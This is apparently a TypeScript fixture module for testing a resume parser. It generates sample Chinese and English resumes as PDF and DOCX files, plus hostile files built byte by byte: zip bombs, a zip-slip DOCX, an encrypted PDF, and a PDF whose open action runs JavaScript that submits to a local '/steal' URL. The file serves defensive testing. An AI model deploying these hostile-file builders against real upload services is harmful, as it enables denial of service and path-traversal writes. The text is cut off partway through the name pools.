/**
 * Real resume files for tests and benchmarks: PDFs written with pdf-lib (CJK font embedded and
 * subset), DOCX written with the `docx` package, and hostile files (zip bomb, zip slip, encrypted
 * PDF, PDF with JavaScript) assembled byte by byte.
 */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import zlib from 'node:zlib';
import fontkit from '@pdf-lib/fontkit';
import { PDFDocument, PDFName, PDFString, rgb, type PDFFont, type PDFPage } from 'pdf-lib';
import { AlignmentType, BorderStyle, Document, HeadingLevel, Packer, Paragraph, Tab, TabStopType, TextRun } from 'docx';
import { seededRandom } from '../../server/src/domain/seed/demo-district.js';

// ---------------------------------------------------------------------------------------------
// The resume model
// ---------------------------------------------------------------------------------------------

export type FixtureDegree = 'junior_college' | 'bachelor' | 'master' | 'doctorate';

export interface FixtureEducation {
  school: string;
  major: string;
  degree: FixtureDegree;
  startYear: number;
  endYear: number;
}

export interface FixtureExperience {
  kind: 'work' | 'internship' | 'project';
  organisation: string;
  title: string;
  /** YYYY-MM */
  start: string;
  /** YYYY-MM, or null while ongoing (rendered 至今 / Present). */
  end: string | null;
  description: string;
}

export interface FixtureLanguage {
  /** Canonical lowercase English name, as the parser reports it: 'english', 'japanese', 'mandarin'. */
  language: string;
  /** Rendered as written, e.g. 'CET-6', 'IELTS 7.0', 'JLPT N2', 'Native'. */
  level: string | null;
}

export interface FixtureResume {
  name: string;
  /** 11-digit mainland mobile number; rendered in the style chosen by `phoneStyle`. */
  phone: string;
  email: string;
  education: FixtureEducation[];
  /** Skill names as a graduate would write them ('Python', '数据分析'); canonicalSkill maps them to ids. */
  skills: string[];
  experience: FixtureExperience[];
  languages: FixtureLanguage[];
  lang: 'zh' | 'en';
}

export type PhoneStyle = 'plain' | 'dashed' | 'intl';

export function formatPhone(phone: string, style: PhoneStyle): string {
  const [a, b, c] = [phone.slice(0, 3), phone.slice(3, 7), phone.slice(7)];
  if (style === 'dashed') return `${a}-${b}-${c}`;
  if (style === 'intl') return `+86 ${a} ${b} ${c}`;
  return phone;
}

const DEGREE_ZH: Record<FixtureDegree, string> = { junior_college: '大专', bachelor: '本科', master: '硕士', doctorate: '博士' };
const DEGREE_EN: Record<FixtureDegree, string> = {
  junior_college: 'Associate Degree',
  bachelor: 'Bachelor of Science',
  master: 'Master of Science',
  doctorate: 'PhD',
};
const LANGUAGE_ZH: Record<string, string> = {
  english: '英语', japanese: '日语', korean: '韩语', german: '德语', french: '法语', mandarin: '普通话',
};
const LANGUAGE_EN: Record<string, string> = {
  english: 'English', japanese: 'Japanese', korean: 'Korean', german: 'German', french: 'French', mandarin: 'Mandarin',
};
const MONTHS_EN = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

function monthZh(ym: string | null): string {
  return ym === null ? '至今' : ym.replace('-', '.');
}
function monthEn(ym: string | null): string {
  if (ym === null) return 'Present';
  const [y, m] = ym.split('-');
  return `${MONTHS_EN[Number(m) - 1]} ${y}`;
}

/** One rendered line of the resume body; `cols` are laid out left to right, `right` is right-aligned. */
interface Line {
  kind: 'title' | 'contact' | 'heading' | 'row' | 'text' | 'bullet';
  cols: string[];
  right?: string;
}

const HEADINGS = {
  zh: { contact: '基本信息', education: '教育背景', skills: '专业技能', work: '工作经历', internship: '实习经历', project: '项目经历', languages: '语言能力' },
  en: { contact: 'Contact', education: 'Education', skills: 'Skills', work: 'Work Experience', internship: 'Internship', project: 'Projects', languages: 'Languages' },
};

/** The resume as lines, shared by the PDF and DOCX writers so both carry the same content. */
function resumeLines(r: FixtureResume, phoneStyle: PhoneStyle): Line[] {
  const zh = r.lang === 'zh';
  const h = HEADINGS[r.lang];
  const out: Line[] = [];
  out.push({ kind: 'title', cols: [r.name] });
  out.push(
    zh
      ? { kind: 'contact', cols: [`电话：${formatPhone(r.phone, phoneStyle)}`, `邮箱：${r.email}`] }
      : { kind: 'contact', cols: [`Phone: ${formatPhone(r.phone, phoneStyle)}`, `Email: ${r.email}`] },
  );
  if (r.education.length > 0) {
    out.push({ kind: 'heading', cols: [h.education] });
    for (const e of r.education) {
      if (zh) {
        out.push({ kind: 'row', cols: [`${e.startYear}.09 - ${e.endYear}.06`, e.school, e.major, DEGREE_ZH[e.degree]] });
      } else {
        out.push({ kind: 'row', cols: [e.school], right: `${e.startYear} – ${e.endYear}` });
        out.push({ kind: 'text', cols: [`${DEGREE_EN[e.degree]} in ${e.major}`] });
      }
    }
  }
  if (r.skills.length > 0) {
    out.push({ kind: 'heading', cols: [h.skills] });
    out.push({ kind: 'text', cols: [zh ? `熟练掌握：${r.skills.join('、')}` : `Technical: ${r.skills.join(', ')}`] });
  }
  for (const kind of ['work', 'internship', 'project'] as const) {
    const items = r.experience.filter((x) => x.kind === kind);
    if (items.length === 0) continue;
    out.push({ kind: 'heading', cols: [h[kind]] });
    for (const x of items) {
      if (zh) {
        out.push({ kind: 'row', cols: [`${monthZh(x.start)} - ${monthZh(x.end)}`, x.organisation, x.title] });
      } else {
        out.push({ kind: 'row', cols: [`${x.title}, ${x.organisation}`], right: `${monthEn(x.start)} – ${monthEn(x.end)}` });
      }
      for (const sentence of x.description.split('\n')) out.push({ kind: 'bullet', cols: [sentence] });
    }
  }
  if (r.languages.length > 0) {
    out.push({ kind: 'heading', cols: [h.languages] });
    for (const l of r.languages) {
      const name = (zh ? LANGUAGE_ZH : LANGUAGE_EN)[l.language] ?? l.language;
      out.push({ kind: 'text', cols: [zh ? `${name}：${l.level ?? ''}` : `${name}: ${l.level ?? ''}`] });
    }
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// PDF
// ---------------------------------------------------------------------------------------------

const WQY_TTC = '/usr/share/fonts/truetype/wqy/wqy-microhei.ttc';
let cachedFont: Uint8Array | null = null;

/**
 * The first face of a TrueType collection as a standalone TrueType file: the collection header
 * points at one offset table per face; copy that table directory and the tables it names.
 */
export function extractFirstTtcFace(ttc: Uint8Array): Uint8Array {
  const src = Buffer.from(ttc.buffer, ttc.byteOffset, ttc.byteLength);
  if (src.toString('latin1', 0, 4) !== 'ttcf') return ttc;
  const faceOffset = src.readUInt32BE(12);
  const numTables = src.readUInt16BE(faceOffset + 4);
  const tables: { tag: Buffer; checksum: number; offset: number; length: number }[] = [];
  for (let i = 0; i < numTables; i++) {
    const rec = faceOffset + 12 + i * 16;
    tables.push({ tag: src.subarray(rec, rec + 4), checksum: src.readUInt32BE(rec + 4), offset: src.readUInt32BE(rec + 8), length: src.readUInt32BE(rec + 12) });
  }
  const headerLen = 12 + numTables * 16;
  const total = tables.reduce((n, t) => n + Math.ceil(t.length / 4) * 4, headerLen);
  const out = Buffer.alloc(total);
  src.copy(out, 0, faceOffset, faceOffset + 12);
  let cursor = headerLen;
  tables.forEach((t, i) => {
    const rec = 12 + i * 16;
    t.tag.copy(out, rec);
    out.writeUInt32BE(t.checksum, rec + 4);
    out.writeUInt32BE(cursor, rec + 8);
    out.writeUInt32BE(t.length, rec + 12);
    src.copy(out, cursor, t.offset, t.offset + t.length);
    cursor += Math.ceil(t.length / 4) * 4;
  });
  return new Uint8Array(out.buffer, out.byteOffset, out.byteLength);
}

/** WQY MicroHei (covers CJK and Latin), prepared once per process. */
export function resumeFontBytes(): Uint8Array {
  cachedFont ??= extractFirstTtcFace(readFileSync(WQY_TTC));
  return cachedFont;
}

export interface ResumePdfOptions {
  phoneStyle?: PhoneStyle;
  /** JavaScript run on open by a PDF viewer (an /OpenAction), for hostile-file tests. */
  openActionJavaScript?: string;
  /** false writes every object at top level instead of in compressed object streams. */
  useObjectStreams?: boolean;
}

class PdfWriter {
  readonly margin = 50;
  private page: PDFPage;
  private y: number;
  constructor(
    private readonly doc: PDFDocument,
    private readonly font: PDFFont,
  ) {
    this.page = doc.addPage([595.28, 841.89]);
    this.y = this.page.getHeight() - this.margin;
  }
  get width(): number {
    return this.page.getWidth() - 2 * this.margin;
  }
  private ensure(height: number): void {
    if (this.y - height < this.margin) {
      this.page = this.doc.addPage([595.28, 841.89]);
      this.y = this.page.getHeight() - this.margin;
    }
  }
  text(s: string, x: number, size: number, color = rgb(0.1, 0.1, 0.1)): void {
    this.page.drawText(s, { x, y: this.y - size, size, font: this.font, color });
  }
  /** Advances by one line of the given size. */
  advance(size: number, gap = 0.45): void {
    this.y -= size * (1 + gap);
  }
  line(size: number, cols: string[], right?: string): void {
    this.ensure(size * 1.5);
    const step = this.width / Math.max(cols.length, 1);
    cols.forEach((c, i) => this.text(c, this.margin + (cols.length > 2 ? [0, 0.24, 0.55, 0.85][i]! * this.width : i * step), size));
    if (right) this.text(right, this.margin + this.width - this.font.widthOfTextAtSize(right, size), size);
    this.advance(size);
  }
  heading(s: string): void {
    this.ensure(40);
    this.y -= 8;
    this.text(s, this.margin, 13, rgb(0.1, 0.3, 0.6));
    this.advance(13, 0.25);
    this.page.drawLine({ start: { x: this.margin, y: this.y }, end: { x: this.margin + this.width, y: this.y }, thickness: 0.8, color: rgb(0.1, 0.3, 0.6) });
    this.y -= 6;
  }
  /** Wraps a paragraph to the text width, breaking CJK anywhere and Latin at spaces. */
  paragraph(s: string, size: number, indent: number, bullet?: string): void {
    const max = this.width - indent;
    const tokens = s.match(/[\u2e80-\u9fff\uff00-\uffef]|[^\s\u2e80-\u9fff\uff00-\uffef]+|\s+/g) ?? [];
    let current = '';
    const lines: string[] = [];
    for (const t of tokens) {
      const next = current + t;
      if (current && this.font.widthOfTextAtSize(next.trimEnd(), size) > max) {
        lines.push(current.trimEnd());
        current = t.trimStart();
      } else {
        current = next;
      }
    }
    if (current.trim()) lines.push(current.trimEnd());
    lines.forEach((l, i) => {
      this.ensure(size * 1.5);
      if (bullet && i === 0) this.text(bullet, this.margin + indent - 10, size);
      this.text(l, this.margin + indent, size);
      this.advance(size, 0.35);
    });
  }
}

/** A one- or two-page resume PDF with the WQY MicroHei face embedded (subset) for every line of text. */
export async function makeResumePdf(resume: FixtureResume, opts: ResumePdfOptions = {}): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.registerFontkit(fontkit);
  doc.setTitle(resume.lang === 'zh' ? `${resume.name}的简历` : `${resume.name} - Resume`);
  doc.setCreator('Yunpin fixtures');
  doc.setProducer('pdf-lib');
  const font = await doc.embedFont(resumeFontBytes(), { subset: true });
  const w = new PdfWriter(doc, font);
  for (const l of resumeLines(resume, opts.phoneStyle ?? 'plain')) {
    if (l.kind === 'title') {
      w.text(l.cols[0]!, w.margin, 22);
      w.advance(22, 0.5);
    } else if (l.kind === 'contact') {
      w.text(l.cols.join('    '), w.margin, 10);
      w.advance(10, 0.6);
    } else if (l.kind === 'heading') {
      w.heading(l.cols[0]!);
    } else if (l.kind === 'row') {
      w.line(10.5, l.cols, l.right);
    } else if (l.kind === 'bullet') {
      w.paragraph(l.cols[0]!, 10, 12, '•');
    } else {
      w.paragraph(l.cols[0]!, 10.5, 0);
    }
  }
  if (opts.openActionJavaScript !== undefined) {
    const action = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(opts.openActionJavaScript) });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  }
  return doc.save({ useObjectStreams: opts.useObjectStreams ?? true });
}

// ---------------------------------------------------------------------------------------------
// DOCX
// ---------------------------------------------------------------------------------------------

/** The same resume as a Word document: headings as Heading 2, table-like rows separated by tab stops. */
export async function makeResumeDocx(resume: FixtureResume, opts: { phoneStyle?: PhoneStyle } = {}): Promise<Uint8Array> {
  const font = resume.lang === 'zh' ? { ascii: 'Calibri', eastAsia: 'Microsoft YaHei' } : 'Calibri';
  const children: Paragraph[] = [];
  const tabbed = (cols: string[], right?: string) => {
    const parts = [...cols];
    if (right) parts.push(right);
    return parts.flatMap((c, i) => (i === 0 ? [new TextRun({ text: c, font })] : [new TextRun({ children: [new Tab(), c], font })]));
  };
  for (const l of resumeLines(resume, opts.phoneStyle ?? 'plain')) {
    if (l.kind === 'title') {
      children.push(new Paragraph({ heading: HeadingLevel.TITLE, alignment: AlignmentType.CENTER, children: [new TextRun({ text: l.cols[0]!, font, bold: true })] }));
    } else if (l.kind === 'contact') {
      children.push(new Paragraph({ alignment: AlignmentType.CENTER, children: [new TextRun({ text: l.cols.join('  |  '), font })] }));
    } else if (l.kind === 'heading') {
      children.push(
        new Paragraph({
          heading: HeadingLevel.HEADING_2,
          border: { bottom: { style: BorderStyle.SINGLE, size: 6, color: '1F4E99', space: 1 } },
          children: [new TextRun({ text: l.cols[0]!, font, bold: true })],
        }),
      );
    } else if (l.kind === 'row') {
      children.push(
        new Paragraph({
          tabStops: l.right
            ? [{ type: TabStopType.RIGHT, position: 9000 }]
            : [2200, 5000, 8000].map((position) => ({ type: TabStopType.LEFT, position })),
          children: tabbed(l.cols, l.right),
        }),
      );
    } else if (l.kind === 'bullet') {
      children.push(new Paragraph({ bullet: { level: 0 }, children: [new TextRun({ text: l.cols[0]!, font })] }));
    } else {
      children.push(new Paragraph({ children: [new TextRun({ text: l.cols[0]!, font })] }));
    }
  }
  const doc = new Document({
    creator: 'Yunpin fixtures',
    title: resume.lang === 'zh' ? `${resume.name}的简历` : `${resume.name} - Resume`,
    sections: [{ children }],
  });
  return new Uint8Array(await Packer.toBuffer(doc));
}

// ---------------------------------------------------------------------------------------------
// Zip writer for hostile DOCX files
// ---------------------------------------------------------------------------------------------

export interface ZipEntrySpec {
  name: string;
  /** Stored deflated unless `store` is set. */
  data?: Uint8Array;
  store?: boolean;
  /** Already-deflated data with its real CRC and size (for entries too large to hold inflated). */
  deflated?: { bytes: Uint8Array; crc32: number; size: number };
}

/** A plain zip archive (no zip64), names flagged UTF-8. */
export function buildZip(entries: ZipEntrySpec[]): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    let method: number, crc: number, size: number, body: Buffer;
    if (e.deflated) {
      method = 8;
      crc = e.deflated.crc32;
      size = e.deflated.size;
      body = Buffer.from(e.deflated.bytes);
    } else {
      const data = Buffer.from(e.data ?? new Uint8Array());
      crc = zlib.crc32(data);
      size = data.length;
      method = e.store ? 0 : 8;
      body = e.store ? data : zlib.deflateRawSync(data);
    }
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt16LE(0, 10);
    local.writeUInt16LE(0x21, 12); // 1980-01-01
    local.writeUInt32LE(crc >>> 0, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt16LE(0, 12);
    central.writeUInt16LE(0x21, 14);
    central.writeUInt32LE(crc >>> 0, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += local.length + name.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(entries.length, 8);
  eocd.writeUInt16LE(entries.length, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  const out = Buffer.concat([...locals, cd, eocd]);
  return new Uint8Array(out.buffer, out.byteOffset, out.byteLength);
}

const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  '<Default Extension="bin" ContentType="application/octet-stream"/>' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
  '</Types>';
const ROOT_RELS =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
  '</Relationships>';
function documentXml(paragraphs: string[]): string {
  const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
  return (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>' +
    paragraphs.map((p) => `<w:p><w:r><w:t xml:space="preserve">${esc(p)}</w:t></w:r></w:p>`).join('') +
    '</w:body></w:document>'
  );
}

/** The three parts every minimal DOCX has, with the given paragraphs as its text. */
export function minimalDocxEntries(paragraphs: string[] = ['张三', '电话：13800138000']): ZipEntrySpec[] {
  const enc = (s: string) => new TextEncoder().encode(s);
  return [
    { name: '[Content_Types].xml', data: enc(CONTENT_TYPES) },
    { name: '_rels/.rels', data: enc(ROOT_RELS) },
    { name: 'word/document.xml', data: enc(documentXml(paragraphs)) },
  ];
}

/**
 * Deflates `size` zero bytes without holding them: each 1 MiB chunk is deflated on its own and
 * ends on a sync flush (a non-final, byte-aligned block), so the chunks concatenate into one raw
 * deflate stream; a final empty block closes it. The CRC is that of the real inflated content.
 */
export function deflatedZeros(size: number): { bytes: Uint8Array; crc32: number; size: number } {
  const chunk = Buffer.alloc(1 << 20);
  const compressedChunk = zlib.deflateRawSync(chunk, { level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH });
  const full = Math.floor(size / chunk.length);
  const rest = size - full * chunk.length;
  const parts: Buffer[] = [];
  let crc = 0;
  for (let i = 0; i < full; i++) {
    parts.push(compressedChunk);
    crc = zlib.crc32(chunk, crc);
  }
  if (rest > 0) {
    parts.push(zlib.deflateRawSync(chunk.subarray(0, rest), { level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH }));
    crc = zlib.crc32(chunk.subarray(0, rest), crc);
  }
  parts.push(Buffer.from([0x03, 0x00]));
  const bytes = Buffer.concat(parts);
  return { bytes: new Uint8Array(bytes.buffer, bytes.byteOffset, bytes.byteLength), crc32: crc >>> 0, size };
}

export type ZipBombVariant = 'ratio' | 'total-size' | 'entry-count';

/**
 * A DOCX-looking zip that inflates far beyond its size.
 * - 'ratio': one media entry holding 200 MiB of zeros (~200 KiB compressed, about 1000:1);
 * - 'total-size': sixty entries of exactly 1 MiB of zeros each (60 MiB in all);
 * - 'entry-count': 1,500 tiny entries.
 */
export function makeZipBombDocx(variant: ZipBombVariant = 'ratio'): Uint8Array {
  const entries = minimalDocxEntries(['张三', '本文件只是一个普通的简历']);
  if (variant === 'ratio') {
    entries.push({ name: 'word/media/image1.bin', deflated: deflatedZeros(200 * 1024 * 1024) });
  } else if (variant === 'total-size') {
    const mib = deflatedZeros(1024 * 1024);
    for (let i = 0; i < 60; i++) entries.push({ name: `word/media/image${i + 1}.bin`, deflated: mib });
  } else {
    for (let i = 0; i < 1500; i++) entries.push({ name: `word/media/part${i}.xml`, data: new TextEncoder().encode('<x/>') });
  }
  return buildZip(entries);
}

/** A valid-looking DOCX with one more entry whose name climbs out of the extraction folder. */
export function makeZipSlipDocx(entryName = '../../evil.txt'): Uint8Array {
  return buildZip([...minimalDocxEntries(), { name: entryName, data: new TextEncoder().encode('owned') }]);
}

// ---------------------------------------------------------------------------------------------
// Hand-written PDFs: encrypted, and helpers
// ---------------------------------------------------------------------------------------------

function rc4(key: Uint8Array, data: Uint8Array): Uint8Array {
  const s = new Uint8Array(256);
  for (let i = 0; i < 256; i++) s[i] = i;
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + s[i]! + key[i % key.length]!) & 255;
    [s[i], s[j]] = [s[j]!, s[i]!];
  }
  const out = new Uint8Array(data.length);
  for (let k = 0, i = 0, j = 0; k < data.length; k++) {
    i = (i + 1) & 255;
    j = (j + s[i]!) & 255;
    [s[i], s[j]] = [s[j]!, s[i]!];
    out[k] = data[k]! ^ s[(s[i]! + s[j]!) & 255]!;
  }
  return out;
}
const md5 = (...parts: Uint8Array[]) => {
  const h = createHash('md5');
  for (const p of parts) h.update(p);
  return new Uint8Array(h.digest());
};
const PASSWORD_PAD = Buffer.from('28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A', 'hex');
const padPassword = (pw: string) => {
  const b = Buffer.alloc(32);
  const raw = Buffer.from(pw, 'latin1').subarray(0, 32);
  raw.copy(b);
  PASSWORD_PAD.copy(b, raw.length, 0, 32 - raw.length);
  return new Uint8Array(b);
};
const hex = (b: Uint8Array) => Buffer.from(b).toString('hex').toUpperCase();

/** Serialises numbered objects into a PDF with a classic xref table and the given trailer entries. */
function assemblePdf(objects: (string | Buffer)[], trailer: string, opts: { xrefStream?: boolean } = {}): Uint8Array {
  const parts: Buffer[] = [Buffer.from('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(offset);
    const b = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`, 'latin1'), typeof body === 'string' ? Buffer.from(body, 'latin1') : body, Buffer.from('\nendobj\n', 'latin1')]);
    parts.push(b);
    offset += b.length;
  });
  const xrefOffset = offset;
  if (opts.xrefStream) {
    // Cross-reference stream (PDF 1.5): /W [1 4 2], uncompressed, entry 0 free; the stream is its own last object.
    const n = objects.length + 2;
    const rows = Buffer.alloc(n * 7);
    rows.writeUInt8(0, 0);
    rows.writeUInt16BE(0xffff, 5);
    [...offsets, xrefOffset].forEach((o, i) => {
      rows.writeUInt8(1, (i + 1) * 7);
      rows.writeUInt32BE(o, (i + 1) * 7 + 1);
    });
    parts.push(Buffer.from(`${n - 1} 0 obj\n<< /Type /XRef /Size ${n} /W [1 4 2] ${trailer} /Length ${rows.length} >>\nstream\n`, 'latin1'), rows, Buffer.from('\nendstream\nendobj\n', 'latin1'));
    parts.push(Buffer.from(`startxref\n${xrefOffset}\n%%EOF\n`, 'latin1'));
  } else {
    let xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
    for (const o of offsets) xref += `${String(o).padStart(10, '0')} 00000 n \n`;
    parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} ${trailer} >>\nstartxref\n${xrefOffset}\n%%EOF\n`, 'latin1'));
  }
  const out = Buffer.concat(parts);
  return new Uint8Array(out.buffer, out.byteOffset, out.byteLength);
}

/**
 * A one-page PDF encrypted with the standard security handler (RC4, 40-bit, revision 2) and a
 * non-empty user password, so a reader cannot open it without the password. The page text
 * ("Zhang San resume" in Helvetica) is really encrypted; with the password it decrypts.
 * `xrefStream` puts the /Encrypt entry in a cross-reference stream dictionary instead of a trailer.
 */
export function makeEncryptedPdf(opts: { userPassword?: string; ownerPassword?: string; xrefStream?: boolean } = {}): Uint8Array {
  const user = padPassword(opts.userPassword ?? 'user-secret');
  const owner = padPassword(opts.ownerPassword ?? 'owner-secret');
  const permissions = -44;
  const fileId = md5(Buffer.from('yunpin-encrypted-fixture'));
  const ownerKey = md5(owner).subarray(0, 5);
  const O = rc4(ownerKey, user);
  const p = Buffer.alloc(4);
  p.writeInt32LE(permissions);
  const key = md5(user, O, p, fileId).subarray(0, 5);
  const U = rc4(key, PASSWORD_PAD);
  const objectKey = (num: number) => md5(key, new Uint8Array([num & 255, (num >> 8) & 255, (num >> 16) & 255, 0, 0])).subarray(0, 10);
  const content = Buffer.from('BT /F1 18 Tf 72 720 Td (Zhang San resume) Tj ET', 'latin1');
  const encrypted = Buffer.from(rc4(objectKey(4), content));
  const objects: (string | Buffer)[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    Buffer.concat([Buffer.from(`<< /Length ${encrypted.length} >>\nstream\n`, 'latin1'), encrypted, Buffer.from('\nendstream', 'latin1')]),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Filter /Standard /V 1 /R 2 /O <${hex(O)}> /U <${hex(U)}> /P ${permissions} >>`,
  ];
  return assemblePdf(objects, `/Root 1 0 R /Encrypt 6 0 R /ID [<${hex(fileId)}> <${hex(fileId)}>]`, { xrefStream: opts.xrefStream });
}

/**
 * A resume whose /OpenAction runs JavaScript in a viewer that executes scripts: an alert, a global
 * flag, and a form submission to `submitUrl` (point it at a local server to prove nothing calls it).
 */
export async function makePdfWithJavaScript(
  resume: FixtureResume = DEMO_RESUME_ZH,
  opts: { submitUrl?: string; useObjectStreams?: boolean } = {},
): Promise<Uint8Array> {
  const url = opts.submitUrl ?? 'http://127.0.0.1:9/steal';
  return makeResumePdf(resume, {
    openActionJavaScript: `app.alert('pwned'); globalThis.__resumeJsRan = true; this.submitForm({ cURL: '${url}', cSubmitAs: 'PDF' });`,
    useObjectStreams: opts.useObjectStreams,
  });
}

// ---------------------------------------------------------------------------------------------
// Sample and generated resumes
// ---------------------------------------------------------------------------------------------

export const DEMO_RESUME_ZH: FixtureResume = {
  lang: 'zh',
  name: '王晓明',
  phone: '13812345678',
  email: 'wangxm@example.com',
  education: [
    { school: '华东师范大学', major: '软件工程', degree: 'master', startYear: 2021, endYear: 2024 },
    { school: '上海大学', major: '计算机科学与技术', degree: 'bachelor', startYear: 2017, endYear: 2021 },
  ],
  skills: ['Java', 'Python', 'MySQL', 'Redis', 'Docker', '数据分析'],
  experience: [
    {
      kind: 'work',
      organisation: '上海云启信息技术有限公司',
      title: '后端开发工程师',
      start: '2024-07',
      end: null,
      description: '负责就业服务平台后端的设计与实现，日均处理请求两百万次。\n优化慢查询，核心接口响应时间降低百分之四十。',
    },
    {
      kind: 'internship',
      organisation: '上海申通科技股份有限公司',
      title: '软件开发实习生',
      start: '2023-03',
      end: '2023-09',
      description: '参与内部办公系统的需求分析与编码，编写单元测试。',
    },
  ],
  languages: [
    { language: 'english', level: 'CET-6' },
    { language: 'japanese', level: 'JLPT N2' },
  ],
};

export const DEMO_RESUME_EN: FixtureResume = {
  lang: 'en',
  name: 'Emily Chen',
  phone: '15900001234',
  email: 'emily.chen@example.org',
  education: [
    { school: 'Fudan University', major: 'Statistics', degree: 'master', startYear: 2020, endYear: 2022 },
    { school: 'Nanjing University', major: 'Mathematics', degree: 'bachelor', startYear: 2016, endYear: 2020 },
  ],
  skills: ['Python', 'SQL', 'Excel', 'Data analysis', 'Machine learning'],
  experience: [
    {
      kind: 'work',
      organisation: 'Shanghai Bright Retail Co., Ltd.',
      title: 'Business Analyst',
      start: '2022-08',
      end: null,
      description: 'Built weekly revenue dashboards for forty stores across the district.\nForecast seasonal demand and cut overstock by twelve percent.',
    },
    {
      kind: 'internship',
      organisation: 'Delta Consulting',
      title: 'Research Intern',
      start: '2021-06',
      end: '2021-09',
      description: 'Cleaned survey responses and wrote summaries for client reports.',
    },
  ],
  languages: [
    { language: 'english', level: 'IELTS 7.5' },
    { language: 'mandarin', level: 'Native' },
  ],
};


const POOLS = {
  zh: {
    surnames: ['王', '李', '张', '刘', '陈', '杨', '黄', '赵', '吴', '周', '徐', '孙', '马', '朱', '胡', '郭', '何', '林', '罗', '高'],
    given: ['伟', '芳', '娜', '敏', '静', '丽', '强', '磊', '洋', '艳', '勇', '军', '杰', '娟', '涛', '明', '超', '秀英', '晓东', '思远', '雨桐', '子涵', '浩然', '欣怡'],
    schools: ['复旦大学', '同济大学', '上海交通大学', '华东理工大学', '上海财经大学', '东华大学', '上海师范大学', '上海应用技术大学', '上海电力大学', '上海工程技术大学'],
    colleges: ['上海城建职业学院', '上海电子信息职业技术学院', '上海工商职业技术学院', '松江职业技术学院'],
    majors: ['计算机科学与技术', '软件工程', '会计学', '市场营销', '机械设计制造及其自动化', '电子信息工程', '物流管理', '人力资源管理', '工商管理', '统计学', '国际经济与贸易'],
    orgs: ['上海松江新城建设发展有限公司', '上海九亭智能科技有限公司', '上海泗泾物流有限公司', '上海佘山文旅集团有限公司', '上海洞泾精密机械有限公司', '上海车墩影视服务有限公司', '上海新桥医药科技有限公司'],
    titles: ['软件工程师', '财务专员', '市场专员', '运营助理', '机械工程师', '行政助理', '销售代表', '数据分析师', '采购专员', '质量工程师'],
    skills: ['Java', 'Python', 'MySQL', 'Excel', '数据分析', 'AutoCAD', '市场营销', '会计', '物流管理', '人力资源', 'PLC编程', '平面设计', 'Linux', 'Vue', 'SolidWorks', '新媒体运营', '电子商务', '项目管理'],
    sentences: [
      '负责部门日常事务的整理与跟进，按时完成每周工作报告。',
      '协助主管完成季度目标的拆解与落实。',
      '整理客户资料，维护往来记录，回复日常咨询。',
      '参与新流程的试点工作并提出三项改进建议。',
      '与其他部门配合完成年度盘点。',
      '撰写内部培训材料，组织两次分享会。',
    ],
  },
  en: {
    first: ['James', 'Olivia', 'Liam', 'Emma', 'Noah', 'Ava', 'Lucas', 'Mia', 'Ethan', 'Sophia', 'Leo', 'Grace'],
    last: ['Wang', 'Li', 'Zhang', 'Liu', 'Chen', 'Smith', 'Brown', 'Taylor', 'Zhou', 'Xu', 'Lin', 'Walker'],
